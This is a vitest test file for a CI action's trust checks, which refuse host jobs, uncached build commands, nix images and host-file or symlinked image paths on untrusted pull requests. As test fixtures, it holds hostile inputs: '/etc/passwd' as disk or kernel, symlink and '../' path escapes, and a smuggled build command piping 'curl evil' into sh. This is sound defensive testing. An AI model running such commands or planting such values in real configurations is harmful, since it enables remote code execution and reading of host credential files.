import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { enforceTrust } from '../../src/engine/trust-check.js';
import { InputError } from '../../src/errors.js';
import { ImageCache, imageCacheKey } from '../../src/images/cache.js';
import { buildPlan } from '../../src/plan/build.js';
import { decideTrust } from '../../src/plan/trust.js';
import { ActionHarness, makeWorkspace } from '../support/github/action-harness.js';
import { context, jobs } from '../support/jobs.js';

// Guarantee 3: the jobs file cannot choose to skip isolation on an untrusted run. Refusals name the policy and
// nothing runs: no job, no build command, no run folder.

const FORK_PR = {
  pull_request: {
    head: { sha: 'f'.repeat(40), ref: 'feature', repo: { full_name: 'mallory/widgets' } },
    base: { sha: 'e'.repeat(40), repo: { full_name: 'acme/widgets' } },
  },
};
const SAME_REPO_PR = {
  pull_request: {
    head: { sha: 'f'.repeat(40), ref: 'feature', repo: { full_name: 'acme/widgets' } },
    base: { sha: 'e'.repeat(40), repo: { full_name: 'acme/widgets' } },
  },
};

/** A hostile jobs file: a host job, a build image whose command runs on the host, a host file as a disk. */
function hostileJobs(marker: string): string {
  return `version: 1
images:
  built:
    arch: arm64
    build: "touch ${marker}-build; exit 1"
  stolen:
    arch: arm64
    kernel: /etc/hostname
    initrd: /etc/hostname
    disk: /etc/passwd
jobs:
  escape:
    executor: host
    run: touch ${marker}-job
  uses-build:
    image: built
    run: "true"
  uses-stolen:
    image: stolen
    run: "true"
`;
}

describe('the action on untrusted events', () => {
  for (const [event, payload, reason] of [
    ['pull_request', FORK_PR, 'trust: auto (untrusted for a pull request from a fork)'],
    ['pull_request_target', SAME_REPO_PR, 'trust: auto (untrusted on pull_request_target)'],
  ] as const) {
    it(`refuses host jobs, host builds and host files on ${event}, running nothing`, async () => {
      const marker = join(tmpdir(), `vmplan-trust-${randomBytes(4).toString('hex')}`);
      const workspace = makeWorkspace({ '.github/vmplan.yml': hostileJobs(marker) });
      const harness = new ActionHarness(
        workspace.root,
        { 'github-token': 't' },
        {},
        {
          name: event,
          payload,
        },
      );
      const main = await harness.start('main').done;
      expect(main.code).toBe(1);
      const refusals = main.commands.filter((c) => c.command === 'error').map((c) => c.message);
      const expectations = [
        /jobs\.escape\.executor: runs on the runner itself \(executor host\)/,
        /images\.built\.build: not in the image cache .* never runs build commands on the runner/,
        /images\.stolen\.kernel: \/etc\/hostname is a host path outside the trusted image folders/,
        /images\.stolen\.disk: \/etc\/passwd is a host path outside the trusted image folders/,
      ];
      for (const expected of expectations) {
        const found = refusals.find((message) => expected.test(message));
        expect(found, `${expected} in ${JSON.stringify(refusals)}`).toBeDefined();
        expect(found).toContain(reason);
      }
      expect(existsSync(`${marker}-build`)).toBe(false);
      expect(existsSync(`${marker}-job`)).toBe(false);
      const runs = join(harness.temp, 'vmplan', 'runs');
      expect(existsSync(runs) ? readdirSync(runs) : []).toEqual([]);
    }, 60_000);
  }

  it('runs the same host job on a push, and for a fork when the workflow says trust: trusted', async () => {
    for (const [inputs, event] of [
      [{}, { name: 'push', payload: {} }],
      [{ trust: 'trusted' }, { name: 'pull_request', payload: FORK_PR }],
    ] as const) {
      const marker = join(tmpdir(), `vmplan-trust-${randomBytes(4).toString('hex')}`);
      const workspace = makeWorkspace({
        '.github/vmplan.yml': `version: 1\njobs:\n  trusted: { executor: host, run: touch ${marker} }\n`,
      });
      const harness = new ActionHarness(workspace.root, { 'github-token': 't', ...inputs }, {}, event);
      const main = await harness.start('main').done;
      expect(main.code, main.stdout).toBe(0);
      expect(existsSync(marker)).toBe(true);
    }
  }, 60_000);
});

describe('trust: auto', () => {
  const decided = (event: string | null, forkPullRequest = false) =>
    decideTrust('auto', { event, forkPullRequest }, { imagePaths: [] });

  it('trusts only events whose code is the repository own, and same-repository pull requests', () => {
    for (const event of ['push', 'schedule', 'workflow_dispatch', 'merge_group', 'pull_request'])
      expect(decided(event).trusted, event).toBe(true);
    for (const event of [
      'pull_request_target',
      'issue_comment',
      'workflow_run',
      'discussion',
      'some_new_event',
    ])
      expect(decided(event), event).toMatchObject({
        trusted: false,
        reason: `trust: auto (untrusted on ${event})`,
      });
    expect(decided(null).trusted).toBe(false);
    expect(decided('pull_request', true)).toMatchObject({
      trusted: false,
      reason: 'trust: auto (untrusted for a pull request from a fork)',
    });
  });
});

describe('image sources of an untrusted run', () => {
  const untrusted = (paths: string[] = []) =>
    decideTrust('untrusted', { event: null, forkPullRequest: false }, { imagePaths: paths });
  const refusal = async (yaml: string, root: string, cacheDir: string, paths: string[] = []) => {
    const plan = buildPlan(jobs(yaml), context());
    try {
      await enforceTrust(plan, untrusted(paths), { repositoryRoot: root, cacheDir });
      return undefined;
    } catch (error) {
      if (error instanceof InputError) return error.message;
      throw error;
    }
  };
  const filesImage = (kernel: string) =>
    `version: 1\nimages:\n  g: { arch: arm64, kernel: "${kernel}", initrd: "${kernel}" }\njobs:\n  t: { image: g, executor: qemu, run: "true" }\n`;

  it('boots files from the trusted image folders, never through a link that leaves them', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    const trusted = mkdtempSync(join(tmpdir(), 'vmplan-trust-images-'));
    writeFileSync(join(trusted, 'vmlinuz'), 'kernel');
    symlinkSync('/etc/passwd', join(trusted, 'escape'));
    expect(await refusal(filesImage(join(trusted, 'vmlinuz')), root, root, [trusted])).toBeUndefined();
    expect(await refusal(filesImage(join(trusted, 'escape')), root, root, [trusted])).toMatch(
      /images\.g\.kernel: .*escape is a host path outside the trusted image folders/,
    );
    expect(await refusal(filesImage(`${trusted}/../../etc/passwd`), root, root, [trusted])).toMatch(
      /outside the trusted image folders/,
    );
    // The trusted folder itself may be reached through a link (e.g. onto another volume).
    const linked = join(mkdtempSync(join(tmpdir(), 'vmplan-trust-link-')), 'images');
    symlinkSync(trusted, linked);
    expect(await refusal(filesImage(join(linked, 'vmlinuz')), root, root, [linked])).toBeUndefined();
    expect(await refusal(filesImage(join(linked, 'escape')), root, root, [linked])).toMatch(
      /outside the trusted image folders/,
    );
  });

  it("boots the repository's own files, but not through a link in the repository", async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    mkdirSync(join(root, 'guest'));
    writeFileSync(join(root, 'guest/kernel'), 'kernel');
    symlinkSync('/etc', join(root, 'host-etc'));
    expect(await refusal(filesImage('guest/kernel'), root, root)).toBeUndefined();
    expect(await refusal(filesImage('host-etc/passwd'), root, root)).toMatch(
      /images\.g\.kernel: host-etc\/passwd goes through a symbolic link in the repository; trust: untrusted/,
    );
  });

  it('boots a build image only when a trusted run cached that very definition', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    const cacheDir = mkdtempSync(join(tmpdir(), 'vmplan-trust-cache-'));
    const yaml = (command: string) =>
      `version: 1\nimages:\n  b: { arch: arm64, build: "${command}" }\njobs:\n  t: { image: b, executor: qemu, run: "true" }\n`;
    expect(await refusal(yaml('make guest'), root, cacheDir)).toMatch(
      /images\.b\.build: not in the image cache/,
    );
    // A trusted run built it: the same definition is now allowed, a changed one is not.
    const plan = buildPlan(jobs(yaml('make guest')), context());
    const node = plan.nodes.find((n) => n.kind === 'prepare')!;
    if (node.kind !== 'prepare') throw new Error('expected a prepare node');
    const { key } = await imageCacheKey(node, root);
    await new ImageCache(join(cacheDir, 'images')).getOrBuild(
      key,
      { image: 'b', type: 'build', inputs: [] },
      async (out) => {
        writeFileSync(join(out, 'kernel'), 'k');
        writeFileSync(join(out, 'initrd'), 'i');
      },
      { signal: new AbortController().signal, onWait: () => undefined },
    );
    expect(await refusal(yaml('make guest'), root, cacheDir)).toBeUndefined();
    expect(await refusal(yaml('make guest; curl evil | sh'), root, cacheDir)).toMatch(
      /not in the image cache/,
    );
  });

  it('never reads a file outside the repository to key a build image, even when its command names a link to it', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    const outside = join(mkdtempSync(join(tmpdir(), 'vmplan-trust-outside-')), 'secret.txt');
    writeFileSync(outside, 'host secret');
    symlinkSync(outside, join(root, 'evil'));
    mkdirSync(join(root, 'ci'));
    writeFileSync(join(root, 'ci/build.sh'), 'echo build');
    symlinkSync('ci/build.sh', join(root, 'build.sh'));
    const yaml = `version: 1\nimages:\n  b: { arch: arm64, build: "cat evil; sh build.sh" }\njobs:\n  t: { image: b, executor: qemu, run: "true" }\n`;
    const node = buildPlan(jobs(yaml), context()).nodes.find((n) => n.kind === 'prepare')!;
    if (node.kind !== 'prepare') throw new Error('expected a prepare node');
    const { inputs } = await imageCacheKey(node, root);
    expect(inputs.map((input) => input.path)).toEqual(['build.sh']);
  });

  it('refuses nix images, which are evaluated on the runner', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    const yaml = `version: 1\nimages:\n  n: { arch: arm64, nix: ".#guest" }\njobs:\n  t: { image: n, executor: qemu, run: "true" }\n`;
    expect(await refusal(yaml, root, root)).toMatch(
      /images\.n\.nix: a nix image is evaluated and built on the runner/,
    );
  });
});
